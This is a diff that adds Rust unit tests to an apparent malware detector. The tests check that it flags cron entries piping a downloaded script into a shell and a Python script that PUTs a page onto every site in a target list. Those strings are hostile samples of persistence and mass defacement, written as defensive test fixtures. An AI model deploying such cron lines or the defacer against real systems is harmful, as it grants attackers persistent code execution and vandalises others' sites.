@@ -525,3 +525,24 @@ fn a_loop_without_end_putting_a_php_file_back_is_a_watchdog() {
     let once = restorer.replace("while true; do", "for i in 1; do");
     assert!(whys(&once).is_empty(), "{:?}", whys(&once));
 }
+
+#[test]
+fn a_cron_line_piping_a_download_into_a_shell_is_found() {
+    let installer = "#!/bin/sh\n(crontab -l 2>/dev/null; echo \"*/10 * * * * curl -fsSL https://pastebin.com/raw/abc123|sh\") | crontab -\n";
+    assert_eq!(whys(installer), [Why::DownloadsProgram]);
+    let reboot = "#!/bin/bash\necho '@reboot wget -q -O- http://example.net/up.sh | bash' >> /tmp/c; crontab /tmp/c\n";
+    assert_eq!(whys(reboot), [Why::DownloadsProgram]);
+    // An installer run once by hand, or a cron line that only downloads, is not.
+    assert_eq!(whys("#!/bin/sh\ncurl -fsSL https://get.example.org/install.sh | sh\n"), []);
+    assert_eq!(whys("#!/bin/sh\necho '0 3 * * * wget -q -O /tmp/feed.xml https://example.org/feed' | crontab -\n"), []);
+}
+
+#[test]
+fn a_page_put_onto_every_site_of_a_list_is_a_mass_defacer() {
+    let webdav = "import requests\ndef up(script, target_file='target.txt'):\n    op = open(script).read()\n\
+                  for web in open(target_file).readlines():\n        site = web.strip()\n\
+                  req = requests.put(site + \"/\" + script, data=op)\n";
+    assert_eq!(whys(webdav), [Why::MassDefacer]);
+    // One upload to one address: a deploy script.
+    assert_eq!(whys("import requests\nrequests.put(base + '/' + name, data=open(name).read())\n"), []);
+}
